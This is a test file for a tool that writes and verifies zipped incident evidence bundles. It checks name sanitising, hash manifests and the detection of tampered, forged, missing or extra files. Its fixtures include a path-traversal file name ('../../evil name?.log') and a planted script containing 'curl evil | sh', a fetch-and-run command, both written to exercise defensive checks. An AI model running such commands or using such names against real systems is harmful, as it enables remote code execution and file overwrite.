import { spawnSync } from "node:child_process";
import { createWriteStream } from "node:fs";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { PassThrough, Readable } from "node:stream";
import { pipeline } from "node:stream/promises";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import yazl from "yazl";
import { generatedData, readStream, sha256Of } from "../hashing/test-streams";
import { EvidenceTamperedError } from "./bundle-errors";
import type { EvidenceBundleInput } from "./bundle-types";
import { formatBundleReport } from "./format-bundle-report";
import { forEachZipEntry } from "./read-zip";
import { formatSha256Sums, parseSha256Sums } from "./sha256sums";
import { verifyEvidenceBundle } from "./verify-evidence-bundle";
import { writeEvidenceBundle } from "./write-evidence-bundle";

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(path.join(tmpdir(), "cordon-bundle-"));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

const bigLog = generatedData(2 * 1024 * 1024 + 5, 21);
const artefactBytes = { "pod.log": Buffer.from("line 1\nline 2\n"), evil: Buffer.from("rootkit dropped here\n") };

function bundleInput(overrides: { evilContent?: Buffer } = {}): EvidenceBundleInput {
  return {
    incident: { number: 42, title: "Crypto-miner in payments namespace", severity: "SEV1" },
    artefacts: [
      {
        fileName: "pod.log",
        manifestEntry: { id: "ev_1", kind: "POD_LOGS", sha256: sha256Of(artefactBytes["pod.log"]), size: 14n },
        open: async () => Readable.from([artefactBytes["pod.log"]]),
      },
      {
        fileName: "../../evil name?.log",
        manifestEntry: { id: "ev_2", kind: "UPLOAD", sha256: sha256Of(artefactBytes.evil), legalHold: true },
        open: async () => Readable.from([overrides.evilContent ?? artefactBytes.evil]),
      },
      {
        fileName: "POD.log",
        manifestEntry: { id: "ev_3", kind: "NODE_LOGS", sha256: bigLog.sha256.toUpperCase() },
        open: async () => bigLog.stream(),
      },
    ],
    custodyCsvRows: [
      ["evidence", "action", "actor", "at", "reason"],
      ["ev_1", "collected", "Ana, lead", "2025-01-01T00:00:00Z", 'said "preserve"'],
    ],
    timeline: [{ seq: 1n, type: "incident.declared" }],
    summaryHtml: "<h1>Incident 42</h1>",
    generatedBy: { id: "u_1", name: "Ana" },
    generatedAt: new Date("2025-01-02T03:04:05Z"),
  };
}

async function writeBundleFile(input: EvidenceBundleInput, name = "bundle.zip") {
  const zipPath = path.join(dir, name);
  await writeEvidenceBundle(createWriteStream(zipPath), input);
  return zipPath;
}

async function readZip(zipPath: string): Promise<Map<string, Buffer>> {
  const entries = new Map<string, Buffer>();
  await forEachZipEntry(zipPath, async (entry, open) => {
    entries.set(entry.fileName, await readStream(await open()));
  });
  return entries;
}

async function writeZip(zipPath: string, entries: Map<string, Buffer>) {
  const zip = new yazl.ZipFile();
  for (const [name, data] of entries) zip.addBuffer(data, name);
  zip.end();
  await pipeline(zip.outputStream, createWriteStream(zipPath));
}

describe("evidence bundle", () => {
  it("writes a bundle that verifies, with safe names and a complete manifest", async () => {
    const zipPath = await writeBundleFile(bundleInput());
    const result = await verifyEvidenceBundle(zipPath);
    expect(result.problems).toEqual([]);
    expect(result.ok).toBe(true);
    expect(result.files.map((file) => file.name)).toEqual([
      "artefacts/pod.log",
      "artefacts/evil_name_.log",
      "artefacts/POD-2.log",
      "manifest.json",
      "custody.csv",
      "timeline.json",
      "summary.html",
    ]);
    expect(formatBundleReport(result)).toContain("Evidence bundle OK: all 7 files match SHA256SUMS");

    const entries = await readZip(zipPath);
    expect([...entries.keys()].sort()).toEqual(
      [
        "SHA256SUMS",
        "artefacts/POD-2.log",
        "artefacts/evil_name_.log",
        "artefacts/pod.log",
        "custody.csv",
        "manifest.json",
        "summary.html",
        "timeline.json",
      ].sort(),
    );
    expect(sha256Of(entries.get("artefacts/POD-2.log")!)).toBe(bigLog.sha256);

    const manifest = JSON.parse(entries.get("manifest.json")!.toString());
    expect(manifest).toMatchObject({
      format: "cordon-evidence-bundle",
      generatedAt: "2025-01-02T03:04:05.000Z",
      generatedBy: { id: "u_1", name: "Ana" },
      incident: { number: 42, severity: "SEV1" },
    });
    expect(manifest.artefacts[1]).toEqual({
      path: "artefacts/evil_name_.log",
      sha256: sha256Of(artefactBytes.evil),
      size: artefactBytes.evil.length,
      originalFileName: "../../evil name?.log",
      evidence: { id: "ev_2", kind: "UPLOAD", sha256: sha256Of(artefactBytes.evil), legalHold: true },
    });
    expect(manifest.artefacts[0].evidence.size).toBe("14");
    expect(entries.get("custody.csv")!.toString()).toBe(
      'evidence,action,actor,at,reason\r\nev_1,collected,"Ana, lead",2025-01-01T00:00:00Z,"said ""preserve"""\r\n',
    );
    expect(JSON.parse(entries.get("timeline.json")!.toString())).toEqual([{ seq: "1", type: "incident.declared" }]);
  });

  it("passes the real sha256sum -c once extracted", async () => {
    const zipPath = await writeBundleFile(bundleInput());
    const out = path.join(dir, "extracted");
    for (const [name, data] of await readZip(zipPath)) {
      const target = path.resolve(out, name);
      expect(target.startsWith(out + path.sep)).toBe(true);
      await mkdir(path.dirname(target), { recursive: true });
      await writeFile(target, data);
    }
    const check = spawnSync("sha256sum", ["-c", "SHA256SUMS"], { cwd: out, encoding: "utf8" });
    expect(check.error).toBeUndefined();
    expect(check.stdout).toContain("artefacts/evil_name_.log: OK");
    expect(check.stdout.match(/: OK$/gm)).toHaveLength(7);
    expect(check.status).toBe(0);
  });

  it("fails the bundle when an artefact no longer matches its recorded hash", async () => {
    const zipPath = path.join(dir, "tampered.zip");
    const failure = await writeEvidenceBundle(
      createWriteStream(zipPath),
      bundleInput({ evilContent: Buffer.from("rootkit dropped here!") }),
    ).catch((error: unknown) => error);

    expect(failure).toBeInstanceOf(EvidenceTamperedError);
    expect(failure).toMatchObject({
      code: "CONFLICT",
      path: "artefacts/evil_name_.log",
      expected: sha256Of(artefactBytes.evil),
      actual: sha256Of("rootkit dropped here!"),
    });
    expect((await verifyEvidenceBundle(zipPath)).ok).toBe(false);
  });

  it("refuses an artefact without a valid sha256 before writing anything", async () => {
    const input = bundleInput();
    const output = new PassThrough();
    const written: Buffer[] = [];
    output.on("data", (chunk: Buffer) => written.push(chunk));
    const artefacts = [{ ...input.artefacts[0]!, manifestEntry: { id: "ev_9", sha256: "n/a" } }];
    await expect(writeEvidenceBundle(output, { ...input, artefacts })).rejects.toMatchObject({ code: "BAD_REQUEST" });
    expect(written).toEqual([]);
  });

  it("destroys the output when an artefact cannot be opened", async () => {
    const input = bundleInput();
    const output = new PassThrough();
    output.resume();
    const missing = {
      ...input.artefacts[0]!,
      open: async () => {
        throw new Error("Evidence object fs:sha256/abc not found");
      },
    };
    await expect(
      writeEvidenceBundle(output, { ...input, artefacts: [input.artefacts[0]!, missing] }),
    ).rejects.toThrow("not found");
    expect(output.destroyed).toBe(true);
  });

  it("reports an artefact changed after the bundle was written", async () => {
    const entries = await readZip(await writeBundleFile(bundleInput()));
    const changed = Buffer.from(entries.get("artefacts/pod.log")!);
    changed[3] = changed[3]! ^ 0x01;
    entries.set("artefacts/pod.log", changed);
    const rebuilt = path.join(dir, "rebuilt.zip");
    await writeZip(rebuilt, entries);

    const result = await verifyEvidenceBundle(rebuilt);
    expect(result.ok).toBe(false);
    expect(result.files.filter((file) => !file.ok)).toEqual([
      { name: "artefacts/pod.log", expected: sha256Of(artefactBytes["pod.log"]), actual: sha256Of(changed), ok: false },
    ]);
    expect(result.problems).toEqual([
      `artefacts/pod.log does not match SHA256SUMS: expected ${sha256Of(artefactBytes["pod.log"])}, actual ${sha256Of(changed)}`,
    ]);
    const report = formatBundleReport(result);
    expect(report).toContain("FAILED verification: 1 problem.");
    expect(report).toMatch(/MISMATCH\s+artefacts\/pod\.log/);
  });

  it("reports missing and extra files, and a SHA256SUMS rewritten to match a forgery", async () => {
    const entries = await readZip(await writeBundleFile(bundleInput()));
    entries.delete("artefacts/POD-2.log");
    entries.set("artefacts/planted.sh", Buffer.from("curl evil | sh"));
    // A forger who recomputes SHA256SUMS still disagrees with manifest.json.
    const forged = Buffer.from("rootkit? what rootkit\n");
    entries.set("artefacts/evil_name_.log", forged);
    const sums = parseSha256Sums(entries.get("SHA256SUMS")!.toString()).lines.map((line) =>
      line.name === "artefacts/evil_name_.log" ? { ...line, sha256: sha256Of(forged) } : line,
    );
    entries.set("SHA256SUMS", Buffer.from(formatSha256Sums(sums)));
    const rebuilt = path.join(dir, "forged.zip");
    await writeZip(rebuilt, entries);

    const result = await verifyEvidenceBundle(rebuilt);
    expect(result.ok).toBe(false);
    expect(result.problems).toEqual(
      expect.arrayContaining([
        "artefacts/POD-2.log is listed in SHA256SUMS but missing from the zip",
        "artefacts/planted.sh is in the zip but not listed in SHA256SUMS",
        "manifest.json and SHA256SUMS disagree about artefacts/evil_name_.log",
      ]),
    );
    expect(result.problems).toHaveLength(3);
    expect(result.files.find((file) => file.name === "artefacts/POD-2.log")).toMatchObject({ actual: null, ok: false });
  });

  it("reports a file that is not a zip instead of throwing", async () => {
    const notZip = path.join(dir, "not.zip");
    await writeFile(notZip, "definitely not a zip");
    const result = await verifyEvidenceBundle(notZip);
    expect(result.ok).toBe(false);
    expect(result.problems[0]).toMatch(/^The zip could not be read: /);
    expect(await readFile(notZip, "utf8")).toBe("definitely not a zip");
  });
});
